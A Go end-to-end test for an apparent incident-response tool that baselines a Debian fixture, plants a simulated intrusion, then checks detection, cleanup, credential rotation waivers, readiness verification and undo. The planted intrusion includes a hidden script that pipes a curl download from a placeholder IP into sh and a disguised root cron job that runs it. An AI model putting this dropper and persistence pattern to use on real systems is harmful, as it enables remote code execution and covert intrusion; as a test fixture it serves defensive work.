package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nowwhat/nowwhat/internal/base/fixture"
)

// TestCleanAndVerifyEndToEnd runs the binary as a user would: a sealed baseline, an intrusion
// (a cron job running a hidden tool, an unknown root key), verify says no with the reasons,
// clean plans, is refused without evidence, applies with the reasons given, verify still waits
// for the credentials and the hole, rotate and harden's waivers are recorded, and verify says
// yes and names the contain undo to run. clean undo then puts the intruder's files back.
func TestCleanAndVerifyEndToEnd(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root (the fixture's owners)")
	}
	r := fixture.Debian(t)
	r.MkdirAll("/var/tmp", 0o1777)
	work := t.TempDir()
	key, base, caseDir := filepath.Join(work, "admin"), filepath.Join(work, "base.snap"), filepath.Join(work, "case")
	env := []string{"NOWWHAT_KEY_PASSWORD="}
	if res := run(t, env, "keygen", "--no-password", key); res.code != 0 {
		t.Fatalf("keygen: %+v", res)
	}
	if res := run(t, env, "baseline", "--root", r.Dir, "--key", key+".key", "-o", base); res.code != 0 {
		t.Fatalf("baseline: %+v", res)
	}
	time.Sleep(1100 * time.Millisecond)
	r.MkdirAll("/var/tmp/.apt-cache", 0o755)
	r.File("/var/tmp/.apt-cache/apt-check", "#!/bin/sh\ncurl -s http://203.0.113.66/u | sh\n", 0o755)
	r.File("/etc/cron.d/apt-compat-check", "*/10 * * * * root /var/tmp/.apt-cache/apt-check >/dev/null 2>&1\n", 0o644)
	c := func(args ...string) result { return run(t, env, append([]string{"--case", caseDir}, args...)...) }
	bl := []string{"--root", r.Dir, "--baseline", base, "--pubkey", key + ".pub"}

	v := c(append([]string{"verify"}, bl...)...)
	if v.code != 1 || !strings.Contains(v.stdout, "NOT READY") || !strings.Contains(v.stdout, "/etc/cron.d/apt-compat-check") || !strings.Contains(v.stdout, "do: ") {
		t.Fatalf("verify on the compromised root: %+v", v)
	}
	plan := c(append([]string{"clean"}, bl...)...)
	if plan.code != 0 || !strings.Contains(plan.stdout, "CLEAN PLAN") || !strings.Contains(plan.stdout, "quarantine /etc/cron.d/apt-compat-check") || !strings.Contains(plan.stdout, "REBUILD RECOMMENDED") {
		t.Fatalf("plan: %+v", plan)
	}
	refused := c(append([]string{"clean", "--apply"}, bl...)...)
	if refused.code != 2 || !r.Exists("/etc/cron.d/apt-compat-check") {
		t.Fatalf("apply without evidence nor reason: %+v", refused)
	}
	applied := c(append([]string{"clean", "--apply", "--no-evidence", "lab copy", "--in-place", "lab copy", "--format", "json"}, bl...)...)
	var res struct {
		Applied int `json:"applied"`
		Steps   []struct {
			Kind, Path, State string
		} `json:"steps"`
	}
	if applied.code != 0 || json.Unmarshal([]byte(applied.stdout), &res) != nil || res.Applied < 2 {
		t.Fatalf("apply: %+v", applied)
	}
	if r.Exists("/etc/cron.d/apt-compat-check") || r.Exists("/var/tmp/.apt-cache") {
		t.Fatal("the intruder's files are still there")
	}
	if chk := run(t, env, append([]string{"check"}, bl...)...); chk.code != 0 {
		t.Fatalf("check after clean: %+v", chk)
	}
	v = c(append([]string{"verify"}, bl...)...)
	if v.code != 1 || strings.Contains(v.stdout, "apt-compat-check") || !strings.Contains(v.stdout, "rotate") {
		t.Fatalf("verify after clean, before rotation: %+v", v)
	}
	// Rotation and the hole: the plans, then the operator's waivers for this lab copy.
	if rot := c("rotate", "--root", r.Dir, "--format", "json"); rot.code != 0 && rot.code != 1 {
		t.Fatalf("rotate: %+v", rot)
	}
	st := c("rotate", "status", "--format", "json")
	var items struct {
		Items []struct{ ID, State string } `json:"items"`
	}
	json.Unmarshal([]byte(st.stdout), &items)
	for _, it := range items.Items {
		c("rotate", "waive", it.ID, "lab copy: no real secret")
	}
	if lh := c("loophole", "--root", r.Dir, "--format", "json"); lh.code > 1 {
		t.Fatalf("loophole: %+v", lh)
	}
	v = c(append([]string{"verify", "--format", "json"}, bl...)...)
	var vr struct {
		Ready    bool `json:"ready"`
		Blockers []struct{ What, Fix string }
	}
	json.Unmarshal([]byte(v.stdout), &vr)
	for _, b := range vr.Blockers {
		if strings.HasPrefix(b.What, "the hole is open: ") {
			c("harden", "--root", r.Dir, "waive", strings.TrimPrefix(b.What, "the hole is open: "), "--reason", "lab copy")
		}
	}
	v = c(append([]string{"verify"}, bl...)...)
	if v.code != 0 || !strings.Contains(v.stdout, "READY") {
		t.Fatalf("verify after clean and rotation: %+v\n%s", v, st.stdout)
	}
	if u := c("clean", "undo", "--all", "--apply", "--root", r.Dir); u.code != 0 || !r.Exists("/etc/cron.d/apt-compat-check") || !r.Exists("/var/tmp/.apt-cache/apt-check") {
		t.Fatalf("undo: %+v", u)
	}
}
